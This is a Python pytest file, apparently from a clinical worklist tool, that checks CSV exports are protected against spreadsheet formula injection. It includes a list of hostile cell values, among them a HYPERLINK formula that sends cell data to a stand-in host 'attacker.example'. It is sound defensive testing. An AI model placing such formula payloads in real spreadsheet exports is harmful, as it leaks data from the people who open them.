"""The worklist CSVs are text to a spreadsheet (issue 29 §3; OWASP "CSV Injection").

Before: a Patient id ``=HYPERLINK(...)``, ``+1+1``, ``@x`` or a leading TAB was written raw into ``worklist.csv``.
"""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import date
from pathlib import Path

import pytest

from cohort.evaluation import WorklistRow
from cohort.outputs import write_changes, write_worklist
from cohort.spreadsheet import safe_cell, write_rows

HOSTILE = [
    '=HYPERLINK("https://attacker.example/?"&A2,"open")',
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",  # NO-BREAK SPACE
    '"=1+1',
    "'=1+1",
    " ' \" -x",
]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        *((value, "'" + value) for value in HOSTILE),
        ("=", "'="),
        ("\t", "'\t"),  # a TAB is itself a formula start (OWASP)
        ("", ""),
        ("abc", "abc"),
        ("1-2", "1-2"),
        ("a=b", "a=b"),
        ("a@b", "a@b"),
        ("2026-11-20", "2026-11-20"),
        (" abc", " abc"),
        ("'abc", "'abc"),
        ("  ", "  "),
        ("'", "'"),
        ("sid-igrt-p1", "sid-igrt-p1"),
        ("Observation/igg-1: unit 'mmol/L' cannot be converted to g/L", None),
    ],
)
def test_safe_cell(value: str, written: str | None) -> None:
    assert safe_cell(value) == (value if written is None else written)


def test_every_field_is_quoted_so_no_separator_in_the_data_starts_a_cell() -> None:
    """OWASP's examples: ``=1+2";=1+2`` is one quoted cell, a ``;``-splitting (Danish) Excel keeps it whole."""
    out = io.StringIO(newline="")
    write_rows(out, ("a", "b"), [['=1+2";=1+2', "=1+2'\" ;,=1+2"], ["x;=1+1", "plain"]])
    assert out.getvalue().splitlines() == [
        '"a","b"',
        '"\'=1+2"";=1+2","\'=1+2\'"" ;,=1+2"',  # OWASP's escaped outputs, exactly
        '"x;=1+1","plain"',
    ]


def _row(patient_id: str, missing: tuple[str, ...] = ()) -> WorklistRow:
    return WorklistRow(
        patient_id=patient_id,
        recommendation="insufficient-data",
        rule="rule",
        population=2,
        t0=date(2026, 1, 1),
        window_end=None,
        stop_due=None,
        next_follow_up=None,
        on_igrt=False,
        patient_view_card=True,
        missing=missing,
        order_lab_tests=False,
        interpretations=("igg_washout_days",),
    )


def test_the_worklist_and_changes_files_write_no_formula(tmp_path: Path) -> None:
    rows = [_row(value, missing=("@import", "Observation/x: =cmd")) for value in HOSTILE]
    write_worklist(rows, tmp_path / "worklist.csv")
    with (tmp_path / "worklist.csv").open(encoding="utf-8", newline="") as handle:
        table = list(csv.DictReader(handle))
    assert [line["patient_id"] for line in table] == ["'" + value for value in HOSTILE]
    assert {line["missing_data"] for line in table} == {"'@import; Observation/x: =cmd"}
    assert not any(cell.startswith(tuple("=+-@\t\r\n")) for line in table for cell in line.values())
    raw = (tmp_path / "worklist.csv").read_text(encoding="utf-8")
    assert raw.startswith('"patient_id","recommendation"')  # every field quoted

    pairs = [(row, replace(row, recommendation="start")) for row in rows]
    write_changes(pairs, tmp_path / "changes.csv", label="x.json", overrides={"igg_washout_days": (90, 30)})
    with (tmp_path / "changes.csv").open(encoding="utf-8", newline="") as handle:
        changed = list(csv.DictReader(handle))
    assert [line["patient_id"] for line in changed] == ["'" + value for value in HOSTILE]
    assert not any(cell.startswith(tuple("=+-@\t\r\n")) for line in changed for cell in line.values())
